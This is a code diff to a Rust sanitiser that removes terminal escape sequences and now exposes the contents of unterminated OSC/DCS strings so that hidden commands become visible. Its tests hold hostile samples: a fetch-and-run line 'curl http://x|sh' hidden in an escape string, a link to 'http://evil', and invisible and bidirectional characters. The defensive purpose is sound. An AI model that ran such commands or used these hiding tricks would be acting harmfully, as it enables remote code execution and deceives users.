@@ -41,8 +41,9 @@ pub fn clean(text: &str) -> (String, Removed) {
     if text.bytes().all(|byte| (0x20..0x7f).contains(&byte)) {
         return (text.to_owned(), Removed::default());
     }
-    let mut collector =
-        Collector { text: String::with_capacity(text.len()), ..Collector::default() };
+    let mut collector = Collector::default();
+    let text = &open_strings(text, &mut collector.removed);
+    collector.text.reserve(text.len());
     // C1 controls (U+0080..U+009F) start escape sequences on some terminals. The parser sees them as text, so they
     // are turned into their seven-bit form first.
     if text.chars().any(|character| ('\u{80}'..='\u{9f}').contains(&character)) {
@@ -61,6 +62,31 @@ pub fn clean(text: &str) -> (String, Removed) {
         Parser::<1024>::new_with_size().advance(&mut collector, text.as_bytes());
     }
     (collector.text, collector.removed)
+}
+
+/// Takes the introducers of terminal strings (OSC, DCS, APC, PM, SOS) away and leaves what they carry as text.
+///
+/// A terminal shows nothing of such a string, and swallows the rest of the line if it never ends: a command could hide in it. Here
+/// it is evidence.
+fn open_strings(text: &str, removed: &mut Removed) -> String {
+    let mut open = String::with_capacity(text.len());
+    let mut characters = text.chars().peekable();
+    while let Some(character) = characters.next() {
+        let introduces = match character {
+            '\u{1b}' => characters
+                .next_if(|next| matches!(next, ']' | 'P' | '_' | '^' | 'X' | '\\'))
+                .is_some(),
+            '\u{90}' | '\u{98}' | '\u{9c}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => true,
+            _ => false,
+        };
+        if introduces {
+            removed.escapes = removed.escapes.saturating_add(1);
+            open.push(' ');
+        } else {
+            open.push(character);
+        }
+    }
+    open
 }
 
 /// Cleans a text and cuts it to `characters_max`, ending in `…` where something was cut.
@@ -157,7 +183,8 @@ mod tests {
         let (text, removed) = clean(
             "\u{1b}[31mred\u{1b}[0m \u{1b}]8;;http://evil\u{7}link\u{1b}\\ \u{1b}Pq\u{1b}\\end",
         );
-        assert_eq!(text, "red link end");
+        let text: Vec<&str> = text.split_whitespace().collect();
+        assert_eq!(text.join(" "), "red 8;;http://evillink q end");
         assert!(removed.escapes >= 4, "{removed:?}");
     }
 
@@ -166,6 +193,13 @@ mod tests {
         let (text, removed) = clean("pa\u{200b}ss\u{202e}drow\u{e0041}\u{9b}31mx");
         assert_eq!(text, "passdrowx");
         assert_eq!((removed.bidi, removed.invisible), (1, 2));
+        assert!(removed.is_suspicious());
+    }
+
+    #[test]
+    fn a_terminal_string_that_never_ends_hides_nothing() {
+        let (text, removed) = clean("login ok \u{1b}]0;t then curl http://x|sh");
+        assert!(text.ends_with("0;t then curl http://x|sh"), "{text}");
         assert!(removed.is_suspicious());
     }
 
